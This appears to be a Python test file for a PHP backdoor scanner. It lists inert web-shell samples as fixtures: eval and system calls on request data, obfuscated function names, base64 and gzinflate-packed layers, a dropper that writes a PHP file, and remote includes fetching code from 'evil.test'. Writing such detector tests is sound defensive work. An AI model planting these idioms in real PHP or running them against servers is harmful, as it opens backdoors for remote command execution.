"""What the reader of PHP sees in inert samples: each shows one way of hiding or running something, and none acts."""

import base64
import itertools
import zlib

import pytest

from scanners.php.reader import MAX_DEPTH, read
from scanners.php.signals import Weight

ENCODED = base64.b64encode(b"system($_GET['c']);").decode()


def signs(source: str | bytes) -> set[str]:
    """Returns the signs in a source that begins outside of PHP only where it says so."""
    written = source.encode("latin-1") if isinstance(source, str) else source
    reading = read(written if b"<?" in written else b"<?php " + written, lambda: False)
    return {hit.signal for hit in reading.hits}


PROVED = {
    "eval of a parameter": ("eval($_POST['x']);", "request_to_code"),
    "by way of variables": ("$a = $_GET['a']; $b = trim($a); eval($b);", "request_to_code"),
    "in a text": ("eval(\"return {$_REQUEST['a']};\");", "request_to_code"),
    "decoded parameter": ("eval(base64_decode($_COOKIE['x']));", "request_to_code"),
    "of the body": ("$b = file_get_contents('php://input'); eval($b);", "request_to_code"),
    "of a header": ("eval($_SERVER['HTTP_X_CODE']);", "request_to_code"),
    "a callback of a pattern": ("preg_replace('/x/e', $_POST['r'], 'x');", "request_to_code"),
    "through a function": ("function run($c) { eval($c); } run($_POST['c']);", "request_to_code"),
    "extracted": ("extract($_POST); eval($code);", "request_to_code"),
    "command": ("system($_GET['c']);", "request_to_command"),
    "backticks": ("echo `{$_GET['c']}`;", "request_to_command"),
    "called by name": ("$f = $_GET['f']; $f('x');", "request_to_call"),
    "called straight": ("$_GET['f']($_GET['a']);", "request_to_call"),
    "callback by name": ("call_user_func($_GET['f'], 1);", "request_to_callback"),
    "callback that runs": ("array_map('assert', array($_POST['x']));", "request_to_callback"),
    "a remote text": ("eval(file_get_contents('http://evil.test/x'));", "remote_to_code"),
    "a remote file": ("include 'x' . 'y'; include file_get_contents('http://evil.test/n');", "remote_to_include"),
    "a name of pieces": ("$f = 'sys' . 'tem'; $f('id');", "hidden_function"),
    "a reversed name": ("$f = strrev('metsys'); $f('id');", "hidden_function"),
    "a xor'ed name": ("$f = ('3' ^ '@') . 'ystem'; $f('id');", "hidden_function"),
    "a name of escapes": ('$f = "\\x73\\x79stem"; $f("id");', "hidden_function"),
    "a name letter by letter": (
        "$a = 'metsys'; $f = $a[5].$a[4].$a[3].$a[2].$a[1].$a[0]; $f('id');",
        "hidden_function",
    ),
    "the request by a hidden name": ("$n = '_P' . 'OST'; eval(${$n}['x']);", "hidden_source"),
    "the request in globals": ("$x = $GLOBALS['_G' . 'ET']; echo chr(1);", "hidden_source"),
    "decoded and run": (f"eval(base64_decode('{ENCODED}'));", "decoded_code"),
    "a picture that is run": ("include 'wp-content/uploads/logo.png';", "include_of_no_php"),
    "data that are run": ("include 'data:text/plain,x';", "include_of_data"),
    "a dropper": ("file_put_contents('a.php', base64_decode('PD9waHAgc3lzdGVtKCdpZCcpOw=='));", "decoded_drop"),
    "an upload in a layer": (
        "eval(base64_decode('" + base64.b64encode(b"copy($_FILES['f']['tmp_name'], 'x.php');").decode() + "'));",
        "upload",
    ),
}


@pytest.mark.parametrize(("source", "signal"), PROVED.values(), ids=PROVED)
def test_source_that_runs_what_is_foreign_or_hidden_is_proved(source: str, signal: str) -> None:
    """Each technique has its sign, and the sign is a proof."""
    reading = read(b"<?php " + source.encode(), lambda: False)

    assert signal in {hit.signal for hit in reading.hits}
    assert reading.weight is Weight.PROOF


HARMLESS = {
    "a number": "eval('return ' . (int) $_GET['n'] . ';'); $x = base64_decode('eA==');",
    "escaped": "system('ls ' . escapeshellarg($_GET['dir']));",
    "compared": "if ($_GET['a'] === 'b') { system('uptime'); }",
    "a fixed include": "include __DIR__ . '/part.php'; $p = $_GET['p'];",
    "an own method": "class A { function run($x) { return $x; } } $a = new A; $a->run($_GET['x']);",
    "a table of callbacks": "$t = array('a' => 'strtolower'); call_user_func($t['a'], $_GET['x']);",
    "a word in a text": "echo 'eval($_POST)'; echo $_GET['x'];",
    "a comment": "/* eval($_POST['x']); */ $x = $_GET['x'];",
    "another function's variable": "function a() { $x = $_GET['x']; return 1; } function b() { $x = 'a'; eval($x); }",
}


@pytest.mark.parametrize("source", HARMLESS.values(), ids=HARMLESS)
def test_source_that_only_looks_like_it_is_not_proved(source: str) -> None:
    """Words alone prove nothing: data must reach what runs them."""
    reading = read(b"<?php " + source.encode(), lambda: False)

    assert reading.weight is not Weight.PROOF


def test_way_from_source_to_sink_names_the_lines() -> None:
    """A reader sees where the data come in, where they go and where they are run."""
    reading = read(b"<?php\n$a = $_POST['x'];\n$b = 'echo ' . $a;\neval($b);\n", lambda: False)

    (hit,) = [hit for hit in reading.hits if hit.signal == "request_to_code"]
    assert [line for line, _ in hit.trail] == [2, 3]
    assert (hit.line, hit.text) == (4, b"eval($b)")


def test_method_of_unknown_work_is_suspicious_and_no_proof() -> None:
    """A framework's method that is given a request and returns a callback is not yet a back door."""
    source = b"<?php $handler = $this->find($_GET['route']); call_user_func($handler['callback']);"

    assert read(source, lambda: False).weight is Weight.SUSPICION


def test_layers_are_read_down_to_a_bound() -> None:
    """Text in text in text is opened seven times, and each layer is kept for the finding."""
    code = b"system($_GET['c']);"
    for _ in range(MAX_DEPTH + 2):
        code = b"eval(base64_decode('" + base64.b64encode(code) + b"'));"

    reading = read(b"<?php " + code, lambda: False)

    assert len(reading.layers) == MAX_DEPTH
    assert reading.layers[0].startswith(b"eval(base64_decode(")


def test_layer_of_several_codings_is_opened() -> None:
    """What packers do: deflated, base64, rot13, reversed."""
    packed = base64.b64encode(zlib.compress(b"passthru($_GET['c']);")[2:-4])[::-1].decode()

    found = signs(f"eval(gzinflate(base64_decode(strrev('{packed}'))));")

    assert {"decoded_code", "request_to_command"} <= found


def test_file_whose_time_is_over_is_not_whole() -> None:
    """A file that takes too long says so, and what was found until then stays."""
    source = b"<?php eval($_POST['x']);" + b"$a = 'b' . $c;" * 2_000
    asked = itertools.count()
    read(source, lambda: next(asked) < 0)
    last = next(asked) - 2
    asked = itertools.count()

    reading = read(source, lambda: next(asked) >= last)

    assert not reading.whole
    assert "request_to_code" in {hit.signal for hit in reading.hits}


def test_file_whose_time_is_over_before_it_is_understood_is_not_whole() -> None:
    """The parser is stopped too."""
    assert not read(b"<?php eval($_POST['x']);" + b"$a = 'b' . $c;" * 2_000, lambda: True).whole


@pytest.mark.parametrize(
    "source",
    [
        b"<?php eval(" * 2_000,
        b"<?php $a" + b"['x']" * 5_000 + b" = $_GET['x'];",
        b"<?php $x = " + b"(" * 5_000 + b"$_GET" + b")" * 5_000 + b"; eval($x);",
        b"<?php eval(str_repeat(str_repeat(str_repeat('a', 999999), 999999), 999999)); $_GET;",
        b"<?php $a = 'x'; " + b"$a = $a . $a; " * 60 + b"eval($a . $_GET['x']);",
        b"<?php eval(\xff\xfe\x00 $_POST[\x80]);",
        b"<?php " + b"$f = '\\x41' ^ 'b'; " * 3_000 + b"?><?= `x` ?>",
    ],
    ids=["unfinished", "deep index", "deep brackets", "repeat bomb", "doubling bomb", "no text", "long"],
)
def test_hostile_source_is_read_within_bounds(source: bytes) -> None:
    """A file written against its reader raises nothing and ends."""
    reading = read(source, lambda: False)

    assert isinstance(reading.hits, tuple)


def test_picture_with_a_script_in_it_is_read_from_there() -> None:
    """Its other bytes are no source, and reading them as one costs more than any file is worth."""
    picture = b"\x89PNG\r\n" + bytes(range(256)) * 400 + b"<?php eval($_POST['x']); ?>" + bytes(range(256)) * 400

    reading = read(picture, lambda: False)

    assert reading.whole
    assert "request_to_code" in {hit.signal for hit in reading.hits}


def test_file_without_php_is_not_read() -> None:
    """A picture or a text of HTML has nothing to run."""
    assert read(b"GIF89a eval($_POST['x'])", lambda: False).hits == ()
